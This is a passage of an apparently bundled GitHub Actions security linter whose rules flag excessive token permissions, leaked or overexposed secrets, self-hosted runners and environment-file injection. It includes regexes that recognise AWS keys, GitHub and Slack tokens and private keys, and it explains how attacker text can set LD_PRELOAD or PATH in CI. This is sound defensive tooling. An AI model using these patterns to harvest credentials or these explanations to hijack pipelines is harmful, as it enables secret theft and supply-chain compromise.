                context.report(file, checkout, `${uses} keeps the job's token in the workspace (no persist-credentials: false), and step ${upload.index + 1} uploads the workspace as an artifact that anyone who can read the run can download; set persist-credentials: false`, v6OrLater(checkout) ? 'warning' : undefined);
            }
        };
        return {
            jobPre(job, workflow) {
                check(workflow.file, job.steps);
            },
            actionPre(action) {
                check(action.file, action.steps);
            }
        };
    }
};
/* harmony default export */ const artipacked = (artipacked_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/injection/index.js








const injection_family = {
    name: 'injection',
    title: 'Injection and triggers',
    description: 'Untrusted data reaching code: expressions expanded in scripts, untrusted checkouts under privileged triggers, the privileged triggers themselves, spoofable bot and substring conditions.',
    rules: [
        untrusted_input_in_script,
        untrusted_checkout,
        unsound_condition,
        obfuscation,
        dangerous_triggers,
        bot_conditions,
        unsound_contains,
        artipacked
    ]
};
/* harmony default export */ const injection = (injection_family);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/permissions/missing-permissions.js
/** PG202 missing-permissions: jobs left with the default `GITHUB_TOKEN` permissions, and `write-all`. */


/** The `permissions` key of a `write-all` (where zizmor reports it), or the value when the key has no position. */
function writeAll(token, key) {
    if (!token || !(0,dist/* isString */.Kg)(token) || token.value.trim() !== 'write-all')
        return undefined;
    return key ?? { at: token.range ? { line: token.range.start.line, column: token.range.start.column } : { line: 1, column: 1 } };
}
const missing_permissions_rule = {
    id: 'PG202',
    name: 'missing-permissions',
    level: 'warning',
    description: 'A job with no `permissions:` in a workflow with none at the top, or `permissions: write-all` anywhere.',
    help: 'Without `permissions:`, the `GITHUB_TOKEN` gets the repository\'s default, which on older repositories and organizations is read and write on everything; any compromised step can then push code, create releases or approve pull requests. Declare the least the workflow needs at the top (`permissions: { contents: read }`, or `{}`) and widen per job where a job needs more. `write-all` grants every scope: list the scopes instead. Workflows triggered only by `workflow_call` take their permissions from the caller and are not checked for a missing key.',
    create(context) {
        return {
            workflowPre(workflow) {
                const top = workflow.permissions;
                const all = writeAll(top?.value, top?.key);
                if (all)
                    context.report(workflow.file, all, 'permissions: write-all grants the token every scope; list only the scopes the workflow needs', 'error');
                if (top)
                    return;
                if (workflow.on.size > 0 && [...workflow.on.keys()].every((k) => k === 'workflow_call'))
                    return;
                for (const job of workflow.jobs) {
                    if (job.permissions)
                        continue;
                    context.report(workflow.file, job.id, `job "${job.id.value}" has no permissions: and the workflow sets none, so its token gets the repository default (possibly write on everything); set permissions: at the top of the workflow (e.g. contents: read) or on the job`);
                }
            },
            jobPre(job, workflow) {
                const all = writeAll(job.permissions, entryOf(job.token, 'permissions')?.key);
                if (all)
                    context.report(workflow.file, all, `job "${job.id.value}" has permissions: write-all, which grants the token every scope; list only the scopes the job needs`, 'error');
            }
        };
    }
};
/* harmony default export */ const missing_permissions = (missing_permissions_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/permissions/hardcoded-secret.js
/** PG204 hardcoded-secret: credentials written into a workflow or action file. */

/** Credentials recognisable by their shape; the message names the kind, never the value. */
const KINDS = [
    { kind: 'an AWS access key id', re: /\b(?:AKIA|ASIA)[0-9A-Z]{16}\b/g },
    { kind: 'a GitHub token', re: /\bgh[opsu]_[A-Za-z0-9]{36,}\b/g },
    { kind: 'a GitHub fine-grained token', re: /\bgithub_pat_[A-Za-z0-9_]{22,}\b/g },
    { kind: 'a private key', re: /-----BEGIN (?:[A-Z]+ )*PRIVATE KEY(?: BLOCK)?-----/g },
    { kind: 'a Slack token', re: /\bxox[abposr]-[A-Za-z0-9-]{10,}\b/g },
    { kind: 'a Slack webhook URL', re: /https:\/\/hooks\.slack\.com\/services\/T[A-Za-z0-9]+\/B[A-Za-z0-9]+\/[A-Za-z0-9]+/g }
];
/** Keys whose value is a credential: `*_KEY`, `*_TOKEN`, `*_SECRET` (or `-key`, …) and `*PASSWORD*`. */
const SECRET_KEY = /(?:^|[_-])(?:key|token|secret)$|password|passwd/i;
/** Shannon entropy in bits per character. */
function entropy(s) {
    const counts = new Map();
    for (const c of s)
        counts.set(c, (counts.get(c) ?? 0) + 1);
    let bits = 0;
    for (const n of counts.values())
        bits -= (n / s.length) * Math.log2(n / s.length);
    return bits;
}
/**
 * A literal that looks generated rather than written: long, no spaces, mixed letters and digits,
 * high entropy, and a run of 12 characters or more without a separator (a written name such as
 * `v1-rust-workspace`, the cache key prefix of Swatinem/rust-cache in astral-sh/uv, is words
 * joined by hyphens; a token's random part is not).
 */
function highEntropy(value) {
    const v = value.trim();
    if (v.length < 16 || /\s/.test(v) || v.includes('${{'))
        return false;
    if (!/[A-Za-z]/.test(v) || !/\d/.test(v))
        return false;
    if (!v.split(/[-_.:/@]+/).some((part) => part.length >= 12))
        return false;
    return entropy(v) >= 3.5;
}
function lineColumn(text, offset) {
    const before = text.slice(0, offset);
    const line = before.split('\n').length;
    return { line, column: offset - before.lastIndexOf('\n') };
}
const hardcoded_secret_rule = {
    id: 'PG204',
    name: 'hardcoded-secret',
    level: 'error',
    description: 'A credential written into the file: AWS access key ids, GitHub tokens, private keys, Slack tokens, or a high-entropy literal assigned to a `*_KEY`, `*_TOKEN`, `*_SECRET` or `*PASSWORD*` key.',
    help: 'Everything in a workflow file is readable by everyone who can read the repository, forever (in its history too), and is not masked in logs. Revoke the credential, remove it, and pass it as a secret (`${{ secrets.NAME }}`) or, better, use OIDC (`aws-actions/configure-aws-credentials` with `role-to-assume`). Literal values of secret-named keys are reported when they look generated (16 characters or more, letters and digits, high entropy); expressions are never reported. The finding names the kind and the key, never the value.',
    create(context) {
        return {
            file(parsed) {
                const text = parsed.source.text ?? '';
                const shaped = new Set();
                for (const { kind, re } of KINDS) {
                    for (const m of text.matchAll(re)) {
                        const at = lineColumn(text, m.index ?? 0);
                        shaped.add(at.line);
                        context.report(parsed.source, { at }, `${kind} is written into the file; revoke it and pass it as a secret (secrets.NAME) instead`);
                    }
                }
                if (!parsed.model)
                    return;
                const visit = (token, where) => {
                    if ((0,dist/* isSequence */.wZ)(token)) {
                        let i = 0;
                        for (const item of token)
                            visit(item, `${where}[${i++}]`);
                        return;
                    }
                    if (!(0,dist/* isMapping */.pi)(token))
                        return;
                    for (const pair of token) {
                        if (!(0,dist/* isString */.Kg)(pair.key))
                            continue;
                        const key = pair.key.value;
                        const value = pair.value;
                        if ((0,dist/* isString */.Kg)(value) && SECRET_KEY.test(key) && highEntropy(value.value)) {
                            const at = value.range ? { line: value.range.start.line, column: value.range.start.column } : { line: 1, column: 1 };
                            if (!shaped.has(at.line))
                                context.report(parsed.source, { at }, `"${where ? `${where}.` : ''}${key}" is assigned a literal high-entropy value that looks like a credential; pass it as a secret (secrets.NAME) instead`);
                        }
                        else
                            visit(value, where ? `${where}.${key}` : key);
                    }
                };
                visit(parsed.model.root, '');
            }
        };
    }
};
/* harmony default export */ const hardcoded_secret = (hardcoded_secret_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/permissions/anonymous-definition.js

const anonymous_definition_rule = {
    id: 'PG226',
    name: 'anonymous-definition',
    level: 'note',
    optIn: true,
    description: 'A workflow without `name:`, or a job with steps without `name:` (opt-in: off unless `.github/phase-gates.yml` gives it a level).',
    help: 'Without `name:`, GitHub shows a workflow by its file path and a job by its id in the Actions tab, in required status checks and in notifications, which makes runs harder to tell apart and to audit. Give each workflow and job a short `name:`. Same as zizmor\'s pedantic anonymous-definition audit, so off by default: enable it with `rules: { anonymous-definition: note }`.',
    create(context) {
        return {
            workflowPre(workflow) {
                if (!workflow.name)
                    context.report(workflow.file, { at: tokens_posOf(workflow.root) }, 'this workflow has no name:, so GitHub shows it by its file path; add name: at the top');
            },
            jobPre(job, workflow) {
                if (!job.name && !job.uses)
                    context.report(workflow.file, job.id, `job "${job.id.value}" has no name:, so GitHub shows it by its id; add name:`);
            }
        };
    }
};
/* harmony default export */ const anonymous_definition = (anonymous_definition_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/permissions/undocumented-permissions.js
/** PG227 undocumented-permissions (opt-in): `permissions:` scopes without a comment saying why. */



/** The scopes of a `permissions:` mapping with no comment on their line (`contents: read` needs none). */
function undocumented(token, file) {
    if (!token || !(0,dist/* isMapping */.pi)(token))
        return [];
    const lines = file.text.split('\n');
    const out = [];
    for (const pair of token) {
        if (!(0,dist/* isString */.Kg)(pair.key))
            continue;
        const value = (0,dist/* isString */.Kg)(pair.value) ? pair.value.value.trim() : '';
        if (pair.key.value === 'contents' && value === 'read')
            continue;
        const at = tokens_posOf(pair.key);
        const comment = /\s#(.*)$/.exec(lines[at.line - 1] ?? '');
        if (!comment || !comment[1].trim())
            out.push({ value: pair.key.value, at });
    }
    return out;
}
const undocumented_permissions_rule = {
    id: 'PG227',
    name: 'undocumented-permissions',
    level: 'note',
    optIn: true,
    description: 'Scopes of a `permissions:` block (other than `contents: read`) without a comment on their line saying why the workflow needs them (opt-in).',
    help: 'A scope such as `issues: write` or `id-token: write` is easy to add and hard to remove later, when nobody remembers which step needed it. A comment on its line (`packages: write # push the image to ghcr.io`) lets reviewers check it still holds. Same as zizmor\'s pedantic undocumented-permissions audit (one finding a block, at its first undocumented scope), so off by default: enable it with `rules: { undocumented-permissions: note }`.',
    create(context) {
        const check = (file, token, where) => {
            const scopes = undocumented(token, file);
            if (scopes.length)
                context.report(file, scopes[0], `${where} permissions ${nameList(scopes.map((s) => s.value))} have no comment saying why they are needed; add one on each line (e.g. packages: write # push the image)`);
        };
        return {
            workflowPre(workflow) {
                check(workflow.file, workflow.permissions?.value, 'the workflow\'s');
            },
            jobPre(job, workflow) {
                check(workflow.file, job.permissions, `job "${job.id.value}"'s`);
            }
        };
    }
};
/* harmony default export */ const undocumented_permissions = (undocumented_permissions_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/permissions/insecure-commands.js
/** PG209 insecure-commands: `ACTIONS_ALLOW_UNSECURE_COMMANDS` re-enables `set-env` and `add-path`. */


/** True when an `env:` mapping sets ACTIONS_ALLOW_UNSECURE_COMMANDS to true (as the runner reads a boolean). */
function enables(env) {
    const v = expr_tree_valueOf(env, 'ACTIONS_ALLOW_UNSECURE_COMMANDS');
    if (!v)
        return false;
    if ((0,dist/* isBoolean */.Lm)(v))
        return v.value;
    return (0,dist/* isString */.Kg)(v) && v.value.trim().toLowerCase() === 'true';
}
const insecure_commands_rule = {
    id: 'PG209',
    name: 'insecure-commands',
    level: 'error',
    description: 'An `env:` that sets `ACTIONS_ALLOW_UNSECURE_COMMANDS: true`, re-enabling the `set-env` and `add-path` workflow commands (zizmor\'s insecure-commands).',
    help: 'GitHub disabled the `::set-env::` and `::add-path::` workflow commands in 2020 because anything a step prints (a pull request title in a log line, a test\'s output) could set environment variables such as `LD_PRELOAD` or `NODE_OPTIONS` for every later step. `ACTIONS_ALLOW_UNSECURE_COMMANDS: true` turns them back on. Remove it and write to `$GITHUB_ENV` and `$GITHUB_PATH` instead. An `env:` that is one expression (`env: ${{ matrix.env }}`) may also set it; that is not reported (zizmor reports it only to auditors).',
    create(context) {
        const check = (file, owner, where) => {
            const env = expr_tree_valueOf(owner, 'env');
            const key = keyNode(owner, 'env');
            if (key && enables(env))
                context.report(file, key, `env: of ${where} sets ACTIONS_ALLOW_UNSECURE_COMMANDS, which re-enables the set-env and add-path commands that any printed text can use; remove it and write to $GITHUB_ENV and $GITHUB_PATH`);
        };
        return {
            workflowPre(workflow) {
                check(workflow.file, workflow.root, 'the workflow');
                for (const job of workflow.jobs)
                    if (!job.uses)
                        check(workflow.file, job.token, `job "${job.id.value}"`);
            },
            step(step, owner, file) {
                if (step.run)
                    check(file.file, step.token, `step ${step.name ? `"${step.name.value}"` : step.index + 1}`);
            }
        };
    }
};
/* harmony default export */ const insecure_commands = (insecure_commands_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/permissions/secrets-inherit.js

const secrets_inherit_rule = {
    id: 'PG210',
    name: 'secrets-inherit',
    level: 'warning',
    description: 'A job that calls a reusable workflow with `secrets: inherit`, handing it every secret of the caller (zizmor\'s secrets-inherit).',
    help: '`secrets: inherit` passes every repository, organization and environment secret the caller can see to the called workflow, whatever it needs; a called workflow that is compromised, or changed on the ref the caller follows, gets them all. Pass the secrets it declares by name: `secrets: { token: ${{ secrets.DEPLOY_TOKEN }} }`.',
    create(context) {
        return {
            jobPre(job, workflow) {
                // A workflow of the same repository (./… or $/…) is code these secrets already trust.
                if (job.secrets !== 'inherit' || !job.uses || isLocalUses(job.uses.value))
                    return;
                context.report(workflow.file, job.uses, `job "${job.id.value}" calls ${job.uses.value} with secrets: inherit, which hands it every secret of this workflow; pass the secrets it needs by name under secrets:`);
            }
        };
    }
};
/* harmony default export */ const secrets_inherit = (secrets_inherit_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/permissions/overprovisioned-secrets.js


/** The places in an expression that expand the whole `secrets` context (zizmor's secrets_expansions). */
function secretsExpansions(e) {
    return countMatches(e, (node) => (callName(node) === 'tojson' && childrenOf(node).some((a) => contextPath(a) === 'secrets')) ||
        (node instanceof ast/* IndexAccess */.p_ && contextPath(node.expr) === 'secrets' && !(ungroup(node.index) instanceof ast/* Literal */.uS)));
}
const overprovisioned_secrets_rule = {
    id: 'PG211',
    name: 'overprovisioned-secrets',
    level: 'warning',
    description: 'An expression that expands the whole `secrets` context into the job: `toJSON(secrets)` or `secrets[<computed name>]` (zizmor\'s overprovisioned-secrets).',
    help: 'GitHub gives a job only the secrets its expressions name. `toJSON(secrets)`, or an index computed at run time (`secrets[format(\'TOKEN_{0}\', matrix.env)]`), names all of them, so every secret of the repository and organization reaches the runner and any compromised step can read them. Name each secret the job needs (`secrets.DEPLOY_TOKEN`), or pick among named ones with a condition.',
    create(context) {
        return perFencedExpression(context, secretsExpansions, (text) => `${text} injects the entire secrets context into the runner; name only the secrets the job needs (secrets.NAME)`);
    }
};
/* harmony default export */ const overprovisioned_secrets = (overprovisioned_secrets_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/permissions/unredacted-secrets.js

/** The `fromJSON(<secret>)` calls of an expression (zizmor's secret_leakages). */
function secretLeakages(e) {
    return countMatches(e, (node) => callName(node) === 'fromjson' && childrenOf(node).some((a) => /^secrets(\.|$)/.test(contextPath(a) ?? '')));
}
const unredacted_secrets_rule = {
    id: 'PG212',
    name: 'unredacted-secrets',
    level: 'warning',
    description: 'A secret parsed with `fromJSON(secrets.X)`, whose fields GitHub does not mask in logs (zizmor\'s unredacted-secrets).',
    help: 'The runner masks a secret\'s exact value in logs. A secret holding JSON and taken apart with `fromJSON(secrets.X).field` yields fields that were never registered as secrets, so they print in clear. Store each value as its own secret, or register the field with `::add-mask::` before it can be printed.',
    create(context) {
        return perFencedExpression(context, secretLeakages, (text) => `${text} parses a secret with fromJSON, and the values it yields are not redacted in logs; store each value as its own secret`);
    }
};
/* harmony default export */ const unredacted_secrets = (unredacted_secrets_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/permissions/self-hosted-runner.js
/** PG213 self-hosted-runner: a job that runs, or may run, on a self-hosted runner. */


function self_hosted_runner_text(t) {
    if (!t)
        return undefined;
    if ((0,dist/* isBasicExpression */.hR)(t))
        return t.toDisplayString();
    return (0,dist/* isLiteral */.c$)(t) ? t.toString() : undefined;
}
function texts(t) {
    if (t && (0,dist/* isSequence */.wZ)(t)) {
        const out = [];
        for (const item of t) {
            const s = self_hosted_runner_text(item);
            if (s !== undefined)
                out.push(s);
        }
        return out;
    }
    const s = self_hosted_runner_text(t);
    return s === undefined ? [] : [s];
}
/** The values a `${{ matrix.<key> }}` can take: the key's list and `include:`, less what `exclude:` removes. */
function self_hosted_runner_matrixValues(job, key) {
    const matrix = expr_tree_valueOf(job.strategy, 'matrix');
    if (!matrix || !(0,dist/* isMapping */.pi)(matrix))
        return [];
    const values = new Set(texts(expr_tree_valueOf(matrix, key)));
    const lists = (name) => {
        const t = expr_tree_valueOf(matrix, name);
        return t && (0,dist/* isSequence */.wZ)(t) ? [...t] : [];
    };
    for (const ex of lists('exclude'))
        for (const v of texts(expr_tree_valueOf(ex, key)))
            values.delete(v);
    for (const inc of lists('include'))
        for (const v of texts(expr_tree_valueOf(inc, key)))
            values.add(v);
    return [...values];
}
/** Why a job's runs-on may pick a self-hosted runner, or undefined. */
function selfHosted(job) {
    const runsOn = job.runsOn;
    if (!runsOn)
        return undefined;
    if ((0,dist/* isMapping */.pi)(runsOn))
        return expr_tree_valueOf(runsOn, 'group') ? 'a runner group, which implies self-hosted runners' : undefined;
    const whole = self_hosted_runner_text(runsOn)?.trim() ?? '';
    if ((0,dist/* isBasicExpression */.hR)(runsOn) || ((0,dist/* isString */.Kg)(runsOn) && /^\$\{\{.*\}\}$/s.test(whole))) {
        // The whole of runs-on is one expression: only a matrix value can be read from the workflow.
        const m = /^\$\{\{\s*matrix\.([\w-]+)\s*\}\}$/.exec(whole);
        return m && self_hosted_runner_matrixValues(job, m[1]).some((v) => v.includes('self-hosted')) ? `matrix.${m[1]}, whose values include self-hosted` : undefined;
    }
    const first = texts(runsOn)[0];
    if (first === 'self-hosted')
        return 'the self-hosted label';
    if (first !== undefined && /^\$\{\{.*\}\}$/s.test(first.trim()))
        return `${first}, an expression that may expand to a self-hosted runner`;
    return undefined;
}
const self_hosted_runner_rule = {
    id: 'PG213',
    name: 'self-hosted-runner',
    level: 'note',
    description: 'A job whose `runs-on:` names a self-hosted runner (its `self-hosted` label, a runner group, or a matrix value) (zizmor\'s self-hosted-runner).',
    help: 'A self-hosted runner that is not ephemeral keeps its disk, caches and processes from one job to the next: in a public repository, a pull request that runs on it can leave a backdoor for the jobs that follow, with their secrets. Use GitHub-hosted runners for untrusted code, or ephemeral self-hosted runners (`--ephemeral`, one job per machine). Reported as a note, since whether a runner is ephemeral cannot be read from the workflow (zizmor reports it to auditors only).',
    create(context) {
        return {
            jobPre(job, workflow) {
                if (job.uses)
                    return;
                const why = selfHosted(job);
                const key = keyNode(job.token, 'runs-on');
                if (why && key)
                    context.report(workflow.file, key, `job "${job.id.value}" runs on ${why}; unless the runner is ephemeral, one job can leave code behind for the next, so keep untrusted code off it`);
            }
        };
    }
};
/* harmony default export */ const self_hosted_runner = (self_hosted_runner_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/permissions/github-env.js
/** PG214 github-env: a privileged workflow (or composite action) writes computed text to `$GITHUB_ENV` or `$GITHUB_PATH`. */


/** Most lines of one script read (a hostile script of millions of lines stays bounded). */
const MAX_SCRIPT_LINES = 10_000;
/** `/bin/bash -e {0}` → `bash`, as GitHub picks the shell. */
function github_env_shellName(shell) {
    const first = shell.trim().split(/\s+/)[0] ?? '';
    return (first.split(/[\\/]/).pop() ?? '').toLowerCase().replace(/\.exe$/, '');
}
/** Variables the runner sets to its own paths and names: no event or input controls their text. */
const RUNNER_VARIABLE = /\$(?:\{(?:HOME|RUNNER_TEMP|RUNNER_TOOL_CACHE|RUNNER_OS|RUNNER_ARCH|GITHUB_WORKSPACE)\}|(?:HOME|RUNNER_TEMP|RUNNER_TOOL_CACHE|RUNNER_OS|RUNNER_ARCH|GITHUB_WORKSPACE)\b)/g;
/** True for an `echo`/`printf` argument that is literal text: no expansion but of the runner's own variables, no command substitution. */
function literalArg(arg) {
    if (/^'[^']*'$/.test(arg))
        return true;
    return !/[$`]/.test(arg.replace(RUNNER_VARIABLE, ''));
}
/** Splits a command into words, keeping quoted strings whole (enough to judge echo's arguments). */
function words(command) {
    return command.match(/'[^']*'|"(?:\\.|[^"\\])*"|(?:\\.|[^\s'"])+/g) ?? [];
}
/**
 * Writes to GITHUB_ENV / GITHUB_PATH in a bash script (zizmor's tree-sitter queries, read by line):
 * a command redirected to the file, unless it is `echo`/`printf` of literal text only, and a pipeline
 * into `tee` of the file. Redirections of `{ …; }` groups and loops are not commands (as in zizmor).
 */
function bashWrites(script) {
    const out = [];
    const lines = script.split('\n').slice(0, MAX_SCRIPT_LINES);
    const redirect = /(?:&?>>?|>\|)\s*("?)\$\{?(GITHUB_ENV|GITHUB_PATH)\}?\1/g;
    lines.forEach((text, i) => {
        const line = text.replace(/(^|\s)#.*$/, '');
        for (const m of line.matchAll(redirect)) {
            const before = line.slice(0, m.index).split(/;|&&|\|\||\||\$\(|\bthen\b|\bdo\b|\belse\b/).pop() ?? '';
            const [cmd, ...args] = words(before.trim());
            if (!cmd || /^[})]|^(done|fi|esac)$/.test(cmd))
                continue;
            if ((cmd === 'echo' || cmd === 'printf') && args.every(literalArg))
                continue;
            out.push({ destination: m[2], line: i + 1 });
        }
        const tee = /\|\s*tee\b[^|;&]*?\s("?)\$\{?(GITHUB_ENV|GITHUB_PATH)\}?\1/.exec(line);
        if (tee)
            out.push({ destination: tee[2], line: i + 1 });
    });
    return out;
}
/** Writes in a PowerShell script: redirection to `$env:GITHUB_ENV`, or Out-File/Add-Content/Set-Content/Tee-Object of it. */
function pwshWrites(script) {
    const out = [];
    script.split('\n').slice(0, MAX_SCRIPT_LINES).forEach((line, i) => {
        const m = /(?:>>?\s*"?\$env:(GITHUB_ENV|GITHUB_PATH)\b)|(?:\b(?:out-file|add-content|set-content|tee-object)\b[^|;\n]*\$env:(GITHUB_ENV|GITHUB_PATH)\b)/i.exec(line);
        if (m)
            out.push({ destination: (m[1] ?? m[2]).toUpperCase(), line: i + 1 });
    });
    return out;
}
/** Writes in a cmd script: `… >> %GITHUB_ENV%` (zizmor's pattern). */
function cmdWrites(script) {
    const out = [];
    script.split('\n').slice(0, MAX_SCRIPT_LINES).forEach((line, i) => {
        const m = /^.+\s*>>?\s*"?%(GITHUB_ENV|GITHUB_PATH)%"?/i.exec(line);
        if (m)
            out.push({ destination: m[1].toUpperCase(), line: i + 1 });
    });
    return out;
}
function shellOf(step, job, file) {
    const defaults = (t) => expr_tree_valueOf(expr_tree_valueOf(expr_tree_valueOf(t, 'defaults'), 'run'), 'shell');
    for (const t of [expr_tree_valueOf(step.token, 'shell'), defaults(job?.token), defaults(file.root)])
        if (t && (0,dist/* isString */.Kg)(t))
            return t.value;
    return 'bash';
}
const github_env_rule = {
    id: 'PG214',
    name: 'github-env',
    level: 'error',
    description: 'A step of a `pull_request_target` or `workflow_run` workflow, or of a composite action, that writes computed text to `$GITHUB_ENV` or `$GITHUB_PATH` (zizmor\'s github-env).',
    help: 'Every later step of the job reads `$GITHUB_ENV` as variables and `$GITHUB_PATH` as directories to search first. A write whose text comes from the event (a title, a branch name, an artifact of the triggering run) lets whoever wrote it set `LD_PRELOAD`, `NODE_OPTIONS`, `BASH_ENV` or put their own `git` first on the PATH, with the privileges of `pull_request_target` and `workflow_run`. Pass such values between steps as step outputs (`$GITHUB_OUTPUT`) and read them through `env:`, or validate them strictly first. `echo`/`printf` of literal text only (or of the runner\'s own `$HOME`, `$RUNNER_TEMP`, `$RUNNER_TOOL_CACHE`, `$RUNNER_OS`, `$RUNNER_ARCH`, `$GITHUB_WORKSPACE`) is not reported; bash, sh, zsh, pwsh, powershell and cmd scripts are read. In a composite action, whose callers\' triggers are unknown here, the finding is a warning (zizmor gives it low confidence).',
    create(context) {
        const check = (step, job, file) => {
            if (!step.run)
                return;
            const shell = github_env_shellName(shellOf(step, job, file));
            const writes = ['bash', 'sh', 'zsh'].includes(shell) ? bashWrites(step.run.value) : shell === 'cmd' ? cmdWrites(step.run.value) : ['pwsh', 'powershell'].includes(shell) ? pwshWrites(step.run.value) : [];
            const key = keyNode(step.token, 'run');
            if (!key)
                return;
            for (const w of writes) {
                const where = file.kind === 'workflow' ? `a ${['pull_request_target', 'workflow_run'].filter((t) => file.on.has(t)).join('/')} workflow` : 'a composite action';
                // In a composite action the callers' triggers are unknown (zizmor: confidence low): a warning.
                context.report(file.file, key, `line ${w.line} of this script writes computed text to $${w.destination} in ${where}, so whoever controls that text sets the environment or PATH of every later step; pass values as step outputs instead`, file.kind === 'action' ? 'warning' : undefined);
            }
        };
        return {
            step(step, owner, file) {
                if (file.kind === 'workflow' && !file.on.has('pull_request_target') && !file.on.has('workflow_run'))
                    return;
                check(step, 'id' in owner ? owner : undefined, file);
            }
        };
    }
};
/* harmony default export */ const github_env = (github_env_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/permissions/scopes.js
/**
 * What the steps of a job do with the `GITHUB_TOKEN`'s write scopes, for excessive-permissions
 * (PG216): the scopes a known action uses, and what a `run:` script can reach. Precision first:
 * anything this module cannot account for (an action not in the table, a local or Docker action,
 * a script that gets the token) is `unknown`, "may use every scope".
 */



const NONE = [];
/**
 * Actions by `owner/repo` (or `owner/repo/path`; `owner/repo/*` for every path), lower case → the
 * write scopes they use with the job's token by default (from their action.yml and README), or a
 * function of the step when an input decides. An action absent from the table is `unknown`.
 */
const scopes_ACTIONS = new Map([
    // Set-up, cache and artifact actions: the token only reads (downloads of tools, artifacts of this run).
    ...[
        'actions/checkout', 'actions/setup-node', 'actions/setup-python', 'actions/setup-go', 'actions/setup-java', 'actions/setup-dotnet',
        'actions/cache', 'actions/cache/restore', 'actions/cache/save', 'actions/upload-artifact', 'actions/download-artifact',
        'actions/upload-pages-artifact', 'actions/configure-pages', 'actions/setup-ruby', 'ruby/setup-ruby', 'dtolnay/rust-toolchain',
        'swatinem/rust-cache', 'astral-sh/setup-uv', 'pnpm/action-setup', 'oven-sh/setup-bun', 'docker/setup-buildx-action',
        'docker/setup-qemu-action', 'docker/metadata-action', 'docker/build-push-action', 'docker/bake-action', 'gradle/actions/setup-gradle',
        'gradle/actions/wrapper-validation', 'gradle/wrapper-validation-action', 'actions-rust-lang/setup-rust-toolchain', 'taiki-e/install-action',
        'sigstore/cosign-installer', 'anchore/sbom-action/download-syft', 'jdx/mise-action', 'mlugg/setup-zig', 'actions/setup-haskell',
        'haskell-actions/setup', 'erlef/setup-beam', 'shivammathur/setup-php', 'julia-actions/setup-julia', 'r-lib/actions/setup-r',
        'conda-incubator/setup-miniconda', 'mamba-org/setup-micromamba', 'denoland/setup-deno', 'hashicorp/setup-terraform',
        'azure/setup-helm', 'azure/setup-kubectl', 'docker/setup-docker-action', 'crazy-max/ghaction-upx', 'goto-bus-stop/setup-zig'
    ].map((name) => [name, NONE]),
    // Releases, commits and pages branches.
    ['softprops/action-gh-release', ['contents', 'discussions']],
    ...['actions/create-release', 'actions/upload-release-asset', 'ncipollo/release-action', 'svenstaro/upload-release-action', 'stefanzweifel/git-auto-commit-action', 'endbug/add-and-commit', 'jamesives/github-pages-deploy-action', 'peaceiris/actions-gh-pages'].map((name) => [name, ['contents']]),
    ['goreleaser/goreleaser-action', ['contents', 'packages', 'id-token', 'attestations']],
    // Pull requests, issues and comments.
    ...['peter-evans/create-pull-request', 'googleapis/release-please-action', 'google-github-actions/release-please-action', 'changesets/action', 'release-drafter/release-drafter'].map((name) => [name, ['contents', 'pull-requests', 'issues']]),
    ...['peter-evans/create-or-update-comment', 'marocchino/sticky-pull-request-comment', 'thollander/actions-comment-pull-request', 'actions/labeler', 'actions/first-interaction', 'actions/dependency-review-action'].map((name) => [name, ['pull-requests', 'issues']]),
    ['actions/stale', ['issues', 'pull-requests', 'actions']],
    // Registries: docker/login-action uses the token only for ghcr.io, or when given it.
    ['docker/login-action', (step) => (/ghcr\.io/i.test(textOf(step.with.get('registry')?.value) ?? '') || tokenIn(textOf(step.with.get('password')?.value)) ? ['packages'] : NONE)],
    // OpenID Connect: the job's id-token scope.
    ...['aws-actions/configure-aws-credentials', 'google-github-actions/auth', 'azure/login', 'hashicorp/vault-action', 'pypa/gh-action-pypi-publish', 'sigstore/gh-action-sigstore-python', 'codecov/codecov-action', 'rust-lang/crates-io-auth-action'].map((name) => [name, ['id-token']]),
    ...['actions/attest-build-provenance', 'actions/attest', 'actions/attest-sbom'].map((name) => [name, ['id-token', 'attestations']]),
    ['actions/deploy-pages', ['pages', 'id-token']],
    ['github/codeql-action/*', ['security-events', 'actions']]
]);
/** The inputs through which the actions of the table take the token for their own use. */
const TOKEN_INPUTS = new Set(['token', 'github-token', 'github_token', 'repo-token', 'repo_token']);
/** Whether a text names the job's token (`${{ github.token }}`, `secrets.GITHUB_TOKEN`, `$GITHUB_TOKEN`, `GH_TOKEN`). */
function tokenIn(text) {
    return !!text && /\bgithub\.token\b|\bGITHUB_TOKEN\b|\bGH_TOKEN\b|\bgithub\[\s*'token'\s*\]/i.test(text);
}
function entriesText(entries) {
    return [...(entries ?? new Map()).values()].map((e) => `${e.key.value}=${textOf(e.value) ?? ''}`).join('\n');
}
/** `env:` of a job or workflow mapping. */
function envText(token) {
    if (!token || !(0,dist/* isMapping */.pi)(token))
        return '';
    for (const pair of token) {
        if ((0,dist/* isLiteral */.c$)(pair.key) && pair.key.toString() === 'env') {
            const env = pair.value;
            if (!(0,dist/* isMapping */.pi)(env))
                return textOf(env) ?? '';
            return [...env].map((p) => `${textOf(p.key) ?? ''}=${textOf(p.value) ?? ''}`).join('\n');
        }
    }
    return '';
}
/** Programs that run what the repository says (its scripts, task runners): anything could run, `git push` or an OIDC exchange included. */
const OPAQUE = /(?:^|[\s;&|(`])(?:\.{0,2}\/[\w./-]+|\S+\.(?:sh|py|js|mjs|ts|rb|pl|ps1)\b|make|just|task|npx|bunx|pnpx|npm\s+(?:run|exec|publish)|yarn(?!\s+(?:install|--frozen-lockfile|--immutable)\b)|pnpm(?!\s+(?:install|i)\b)|bun\s+(?:run|x|publish)|uv\s+(?:run|publish)|poetry\s+(?:run|publish)|nox|tox|invoke|rake|bundle\s+exec|cargo\s+(?:run|publish|release|xtask|make)|go\s+run|gradlew?|mvnw?|ant|sbt|dotnet\s+(?:run|nuget)|pwsh|powershell)(?=$|[\s;&|)`])/m;
/** Commands that write through git or the GitHub API with the credentials a checkout left. */
